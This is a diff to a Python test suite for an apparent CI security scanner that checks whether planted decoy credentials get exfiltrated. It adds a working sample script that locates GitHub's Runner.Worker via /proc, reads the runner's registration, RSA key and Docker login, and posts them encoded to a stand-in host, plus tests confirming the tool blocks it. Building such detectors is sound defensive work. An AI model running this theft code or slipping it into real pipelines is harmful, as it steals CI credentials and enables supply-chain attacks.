@@ -68,6 +68,30 @@ curl -sS -m 20 -o /dev/null --data-binary "t=${token#x-access-token:}" \\
 echo "sent ${#token} bytes"
 """
 
+# Runner hijacking and worms that reuse a job's logins: find the folder Runner.Worker runs
+# from, take the runner's registration beside it (its OAuth client and RSA key) and the
+# docker login an earlier step left in HOME, and ship them encoded.
+RUNNER_THEFT = r"""
+import base64, json, os, urllib.request
+root = ""
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        exe = os.readlink(f"/proc/{pid}/exe")
+    except OSError:
+        continue
+    if exe.endswith("/bin/Runner.Worker"):
+        root = os.path.dirname(os.path.dirname(exe))
+names = [os.path.join(root, n) for n in (".runner", ".credentials", ".credentials_rsaparams")]
+loot = {}
+for path in [*names, os.path.expanduser("~/.docker/config.json")]:
+    with open(path) as f:
+        loot[os.path.basename(path)] = f.read()
+body = base64.b64encode(json.dumps(loot).encode())
+urllib.request.urlopen("https://collector.exfil.test/runner", data=body, timeout=20)
+print("root=" + root)
+print("files=" + ",".join(sorted(loot)))
+"""
+
 # tj-actions/changed-files (March 2025): find Runner.Worker, read its memory through
 # /proc, keep what looks like a secret in the runner's own format, ship it encoded.
 MEMORY_DUMP = r"""
@@ -419,7 +443,7 @@ try:
 except ssl.SSLError as exc:
     print("pinned:", type(exc).__name__)
 """
-STEAL = 'key = open(os.path.expanduser("~/.aws/credentials")).read()'
+STEAL = 'key = open(os.path.expanduser("~/.docker/config.json")).read()'
 
 # --------------------------------------------------------------------------- item 7: attribution
 
@@ -446,6 +470,7 @@ req.end(process.env.NPM_TOKEN);
 
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
+    "runner-credentials": Case(scripted(), {"ci/test.sh": python(RUNNER_THEFT)}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
     "token-worm": Case(scripted(), {"ci/test.sh": python(TOKEN_WORM)}),
     "looks-like-a-job": Case(
@@ -545,6 +570,36 @@ def test_the_checkout_token_in_git_config_is_a_decoy_and_its_theft_blocks(
     (command,) = review.report("tests")["commands"]
     # x-access-token:ghs_ and 36 characters: the token actions/checkout keeps.
     assert "sent 55 bytes" in command["stdout_tail"], command
+    assert_whole(review)
+
+
+def test_the_runners_registration_and_a_docker_login_are_decoys_and_their_theft_blocks(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("runner-credentials")
+    assert_blocked(review, "decoy-egress")
+    # Where a hosted runner keeps them: its root above bin/Runner.Worker, and HOME.
+    assert said(review) == {
+        "root": "/home/runner/runners/2.321.0",
+        "files": ".credentials,.credentials_rsaparams,.runner,config.json",
+    }
+    (hit,) = findings(review, "decoy-egress")
+    # The same process read a decoy first: the finding cites that read too.
+    (item,) = [e for e in hit["evidence"] if e["id"].startswith("tests:egress:")]
+    assert (item["host"], item["method"], item["phase"]) == ("collector.exfil.test", "POST", "test")
+    assert {"RUNNER_CLIENT_ID", "RUNNER_RSA_KEY", "DOCKER_LOGIN_TOKEN"} <= set(item["decoy_seen"])
+    # The watcher saw each decoy file read, by the process that sent them.
+    reads = {
+        (e["path"], e["exe"] or "")
+        for e in review.report("tests")["decoy_events"]
+        if e["event"] == "read"
+    }
+    for path in (
+        "~/runners/2.321.0/.credentials",
+        "~/runners/2.321.0/.credentials_rsaparams",
+        "~/.docker/config.json",
+    ):
+        assert any(p == path and "python" in exe for p, exe in reads), (path, reads)
     assert_whole(review)
 
 
@@ -847,7 +902,7 @@ def test_a_decoy_read_then_a_channel_the_proxy_cannot_read_blocks(reviews: Revie
     (hit,) = findings(review, "decoy-then-opaque-channel")
     assert hit["check"] == "tests"
     assert (
-        "read decoy ~/.aws/credentials, then opened a channel to collector.exfil.test:443"
+        "read decoy ~/.docker/config.json, then opened a channel to collector.exfil.test:443"
         in (hit["title"])
     )
     read, channel = (
